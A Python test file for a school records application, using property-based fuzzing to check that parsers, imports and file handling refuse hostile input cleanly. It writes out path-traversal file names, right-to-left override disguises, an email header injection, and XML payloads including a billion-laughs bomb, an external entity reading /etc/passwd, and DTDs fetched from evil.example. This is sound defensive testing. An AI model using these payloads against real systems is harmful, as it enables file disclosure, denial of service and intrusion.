"""Hostile files and text: property-based tests over every parser, paths that try to climb out
of a folder, oversize attachments, and names carrying control characters or right-to-left
overrides. The promise for all of them: accepted as plain data or refused with one clear
sentence, never a raw exception, never half-applied, never a file written somewhere it should
not be."""

from __future__ import annotations

import json
import os
import sys
import unicodedata
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from records_fixtures import add_pupil, pupil_data, snapshot
from sendesk.errors import SendeskError, ValidationError
from sendesk.models import flowchart
from sendesk.models.specialists import MAX_REPORT_BYTES, check_report_file
from sendesk.models.text import clean_line
from sendesk.models.upn import make_upn
from sendesk.models.users import clean_full_name
from sendesk.records import mis_import, pupils, specialists
from store_tools import assert_user_message

sys.path.insert(0, str(Path(__file__).resolve().parents[2]))
from fuzz import targets  # noqa: E402

FIXTURES_OK = settings(max_examples=60, deadline=None,
                       suppress_health_check=[HealthCheck.function_scoped_fixture,
                                              HealthCheck.too_slow])
QUICK = settings(max_examples=100, deadline=None)
SLOW = settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])

BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
NASTY = ["=", "+", "-", "@", "\t", "\r", "\n", "\0", "\u202e", "\u2066", "\u200b", "\ufeff",
         "\x1b[31m", "..", "/", "\\", "\"", "'", ",", ";", "\u0301", "ß", "İ", "𝔘", "😀", "\ud7ff"]
hostile_text = st.lists(st.one_of(st.sampled_from(NASTY), st.text(max_size=8)),
                        max_size=8).map("".join)


def _refused(action):
    try:
        return action()
    except SendeskError as exc:
        assert_user_message(exc)
        return None


def _visible(text: str) -> bool:
    """No control, format or direction-override character hides in the text."""
    return not any(ch in BIDI or unicodedata.category(ch) in ("Cc", "Cf", "Zl", "Zp")
                   for ch in text if ch != "\u200d")


# --- every parser, over arbitrary bytes ---------------------------------------------------------------

@pytest.mark.parametrize("name", targets.TARGETS)
@QUICK
@given(data=st.binary(max_size=2048))
def test_any_bytes_are_accepted_or_refused_with_a_message(name, data):
    targets.run_one(name, data)


# Deep nesting and huge numbers, spliced into each parser's own valid seed: every parser bounds
# them and refuses with its own sentence; "an unexpected error" never reaches anyone.
DEEP_AND_HUGE = [b"[" * 50_000 + b"]" * 50_000, b'{"a":' * 40 + b"1" + b"}" * 40,
                 b"9" * 30, b"-" + b"9" * 5000, b"1e999", b"NaN", b"<a>" * 20_000 + b"</a>" * 20_000]


@pytest.mark.parametrize("name", targets.TARGETS)
@pytest.mark.parametrize("hostile", range(len(DEEP_AND_HUGE)))
def test_deep_nesting_and_huge_numbers_are_refused_by_every_parser(name, hostile):
    for seed in targets.seeds(name)[:1]:
        for at in (0, len(seed) // 2, seed.find(b":") + 1, seed.find(b">") + 1):
            data = seed[:at] + DEEP_AND_HUGE[hostile] + seed[at:]
            try:
                targets.TARGETS[name](data)
            except SendeskError as exc:
                assert_user_message(exc)
                assert "unexpected" not in str(exc)


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=True) | hostile_text,
    lambda children: st.lists(children, max_size=5) | st.dictionaries(hostile_text, children,
                                                                         max_size=5),
    max_leaves=30)


@SLOW
@given(raw=json_values)
def test_any_json_is_a_flowchart_or_a_list_of_faults(raw):
    try:
        flowchart.parse(raw, "flowchart.json")
    except flowchart.FlowchartError as exc:
        assert_user_message(exc)


def _with_field(chart: dict, path: list, value) -> dict:
    target = chart
    for step in path[:-1]:
        target = target[step]
    target[path[-1]] = value
    return chart


SHIPPED = json.loads((Path(targets.ROOT) / "resources/flowcharts/initial_concerns.json").read_text())


@SLOW
@given(value=json_values, where=st.sampled_from(["title", "publisher", "start", "nodes", "version"]))
def test_one_hostile_field_in_a_real_flowchart_is_named_or_harmless(value, where):
    chart = _with_field(json.loads(json.dumps(SHIPPED)), [where], value)
    try:
        loaded = flowchart.parse(chart, "flowchart.json")
    except flowchart.FlowchartError as exc:
        assert_user_message(exc)
    else:
        assert _visible(loaded.title)


@SLOW
@given(header=json_values, tail=st.binary(max_size=200))
def test_any_backup_header_is_refused_before_a_password_is_asked_for(header, tail):
    raw = json.dumps(header).encode()
    data = b"sendesk-backup\x00\x01" + len(raw).to_bytes(4, "big") + raw + tail
    targets.run_one("backup", data)


# --- the MIS import ----------------------------------------------------------------------------------

@FIXTURES_OK
@given(cells=st.lists(st.tuples(hostile_text, hostile_text, hostile_text), min_size=1, max_size=6),
       encoding=st.sampled_from(["utf-8", "utf-8-sig", "utf-16", "cp1252"]))
def test_a_hostile_mis_file_is_previewed_or_refused_and_never_half_imported(
        senco_session, cells, encoding):
    lines = ["UPN,Surname,Forename,DOB,Gender,Year,Reg Group"]
    for serial, (surname, forename, reg) in enumerate(cells, start=300):
        quoted = ['"' + value.replace('"', '""') + '"' for value in (surname, forename, reg)]
        lines.append(f"{make_upn('940', '4001', 24, serial)},{quoted[0]},{quoted[1]},"
                     f"03/04/2016,F,5,{quoted[2]}")
    try:
        data = "\r\n".join(lines).encode(encoding)
    except UnicodeEncodeError:
        return
    before = snapshot(senco_session)
    plan = _refused(lambda: mis_import.preview(senco_session, data, name="mis.csv"))
    assert snapshot(senco_session) == before  # a preview writes nothing
    # Examples share the school: a pupil an earlier one imported may hold this UPN under
    # another name, a conflict that, left undecided, is refused like a bad file.
    if plan is None or not plan.ok or plan.conflicts:
        if plan is not None:
            assert _refused(lambda: mis_import.commit(senco_session, plan)) is None
        assert snapshot(senco_session) == before
        return
    mis_import.commit(senco_session, plan)
    for row in senco_session.db.query("SELECT legal_surname, legal_forename, class_name FROM pupils"):
        assert all(_visible(value or "") for value in tuple(row))


def test_an_enormous_mis_file_is_refused_before_it_is_read(senco_session, tmp_path):
    huge = tmp_path / "everyone.csv"
    with open(huge, "wb") as handle:
        handle.truncate(5 * 1024 ** 3)  # sparse: 5 GB on paper, nothing on disk
    with pytest.raises(ValidationError, match="MB"):
        mis_import.preview(senco_session, huge)


def test_an_enormous_flowchart_file_is_refused_before_it_is_read(tmp_path):
    huge = tmp_path / "flowchart.json"
    with open(huge, "wb") as handle:
        handle.truncate(5 * 1024 ** 3)
    with pytest.raises(flowchart.FlowchartError, match="KB"):
        flowchart.load_file(huge)


# --- specialists' reports: names that climb out, files too large ---------------------------------------

path_parts = st.lists(st.sampled_from(["..", ".", "/", "\\", "C:", "evil", "~", "%2e%2e", "\u202e",
                                       "etc", "passwd", " ", "fdp.exe", "\0"]), max_size=8)


@QUICK
@given(parts=path_parts, suffix=st.sampled_from([".pdf", ".txt", ".png", ".exe", ""]))
def test_a_report_file_name_never_keeps_a_folder_or_a_hidden_character(parts, suffix):
    filename = "".join(parts) + suffix
    content = b"%PDF-1.7" if suffix == ".pdf" else b"\x89PNG" if suffix == ".png" else b"text"
    result = _refused(lambda: check_report_file(filename, content))
    if result is not None:
        name, _ = result
        assert "/" not in name and "\\" not in name and name not in ("", ".", "..")
        assert _visible(name) and Path(name).name == name


@pytest.mark.parametrize("filename", ["../../../etc/cron.d/evil.txt", "..\\..\\Windows\\evil.txt",
                                      "/etc/passwd.txt", "C:\\Users\\Public\\evil.txt",
                                      "reports/../../evil.txt"])
def test_a_stored_report_keeps_only_its_own_name(filename):
    name, _ = check_report_file(filename, b"plain text")
    assert name == "evil.txt" or name == "passwd.txt"


def test_a_right_to_left_override_cannot_disguise_a_report_name():
    """'report\u202efdp.exe' shows as 'reportexe.pdf' in some file managers."""
    with pytest.raises(ValidationError, match="hidden control character"):
        check_report_file("report\u202efdp.txt", b"text")


def test_a_report_at_the_limit_is_kept_and_one_byte_more_is_refused():
    check_report_file("big.txt", b"x" * MAX_REPORT_BYTES)
    with pytest.raises(ValidationError, match="MB"):
        check_report_file("big.txt", b"x" * (MAX_REPORT_BYTES + 1))


@pytest.fixture
def involvement(senco_session):
    pupil_id = add_pupil(senco_session)
    return specialists.add_involvement(senco_session, pupil_id, {
        "service": "EP", "referral_date": "01/11/2026", "consent": "given",
        "consent_date": "01/11/2026", "consent_from": "Mrs Adeyemi"})


def test_an_oversize_report_file_is_refused_before_it_is_read(senco_session, involvement, tmp_path):
    huge = tmp_path / "scan.pdf"
    with open(huge, "wb") as handle:
        handle.truncate(8 * 1024 ** 3)  # reading this would take 8 GB of memory
    before = snapshot(senco_session)
    with pytest.raises(ValidationError, match="MB"):
        specialists.attach_report_file(senco_session, involvement, huge, "Scan", "20/11/2026")
    assert snapshot(senco_session) == before


def test_a_report_that_is_a_folder_or_a_device_is_refused(senco_session, involvement, tmp_path):
    for path in (tmp_path, Path(os.devnull)):
        with pytest.raises(ValidationError) as refused:
            specialists.attach_report_file(senco_session, involvement, path, "x", "20/11/2026")
        assert_user_message(refused.value)


# --- names with control characters and right-to-left overrides ----------------------------------------

@FIXTURES_OK
@given(surname=hostile_text, forename=hostile_text)
def test_a_pupil_name_is_stored_visible_or_refused(senco_session, surname, forename):
    before = snapshot(senco_session)
    serial = 500 + before["pupils"]
    added = _refused(lambda: pupils.add_pupil(senco_session, pupil_data(
        serial, legal_surname=surname, legal_forename=forename, preferred_forename="")))
    if added is None:
        assert snapshot(senco_session) == before
        return
    pupil = pupils.get_pupil(senco_session, added)
    assert _visible(pupil.details.legal_surname) and _visible(pupil.details.legal_forename)


@QUICK
@given(text=hostile_text)
def test_one_line_fields_never_keep_a_hidden_character(text):
    for clean in (lambda t: clean_line(t, "Name"), clean_full_name):
        result = _refused(lambda clean=clean: clean(text))
        if result is not None:
            assert _visible(result) and "\n" not in result


@pytest.mark.parametrize("name", ["Ahmed\u202eevil", "Zoë\u2066x\u2069", "Smith\u200b",
                                  "Bell\x1b[2J", "Jones\r\nBcc: x@example.org", "O\u200fNeil"])
def test_known_disguises_in_names_are_refused(senco_session, name):
    before = snapshot(senco_session)
    with pytest.raises(ValidationError, match="hidden control character|line"):
        pupils.add_pupil(senco_session, pupil_data(77, legal_surname=name))
    assert snapshot(senco_session) == before
    with pytest.raises(ValidationError):
        clean_full_name(name)


def test_names_in_other_scripts_are_kept(senco_session):
    """The check is for hidden characters, not for anything that is not English."""
    for serial, (surname, forename) in enumerate([("Ó Súilleabháin", "Aoife"), ("Nowak", "Zuzanna"),
                                                  ("محمد", "فاطمة"), ("王", "小明"),
                                                  ("Ng\u0303", "Đức")], start=80):
        pupil_id = pupils.add_pupil(senco_session, pupil_data(serial, legal_surname=surname,
                                                              legal_forename=forename))
        assert pupils.get_pupil(senco_session, pupil_id).details.legal_surname == \
            unicodedata.normalize("NFC", surname)



# --- records-transfer packages and CTFs (parsers from issue #8) ------------------------------------

@SLOW
@given(field=st.sampled_from(["sender", "recipient", "pupil", "items", "stripped", "created_at",
                              "package_id", "version", "leaving_date"]), value=json_values)
def test_a_properly_signed_manifest_with_a_hostile_field_is_refused_or_harmless(field, value):
    """A malicious school signs whatever it likes: the signature proves only who sent it."""
    manifest = json.loads(targets.seeds("transfer_manifest")[0])
    manifest[field] = value
    targets.run_one("transfer_manifest", json.dumps(manifest).encode())


@pytest.mark.parametrize("xml", [
    b'<?xml version="1.0"?><!DOCTYPE CTfile [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;'
    b'&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;'
    b'&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;'
    b'&e;&e;&e;&e;&e;&e;"><!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;"><!ENTITY h "&g;&g;&g;&g;'
    b'&g;&g;&g;&g;&g;&g;"><!ENTITY i "&h;&h;&h;&h;&h;&h;&h;&h;&h;&h;">]><CTfile>&i;</CTfile>',
    b'<?xml version="1.0"?><!DOCTYPE CTfile [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    b"<CTfile><Header><SourceSchool><SchoolName>&x;</SchoolName></SourceSchool></Header></CTfile>",
    b'<?xml version="1.0"?><!DOCTYPE CTfile SYSTEM "http://evil.example/ctf.dtd"><CTfile/>',
    b'<?xml version="1.0"?><!DOCTYPE CTfile [<!ENTITY % p SYSTEM "http://evil.example/x">%p;]>'
    b"<CTfile/>",
    b'<?xml version="1.0" encoding="UTF-9"?><CTfile/>',
    b'<?xml version="1.0" encoding="EBCDIC-NOT"?><CTfile/>',
    b"<CTfile>" + b"<a>" * 100_000 + b"</a>" * 100_000 + b"</CTfile>",
], ids=["billion laughs", "external entity", "external DTD", "parameter entity",
        "unknown encoding", "bogus encoding", "deep nesting"])
def test_a_hostile_ctf_is_refused_with_a_message(xml):
    from sendesk.transfer import ctf
    try:
        ctf.parse_ctf(xml)
    except SendeskError as exc:
        assert_user_message(exc)
        assert "passwd" not in str(exc) and "root:" not in str(exc)
    else:
        assert xml.startswith(b"<CTfile><a>")  # deep nesting of unknown tags is simply ignored
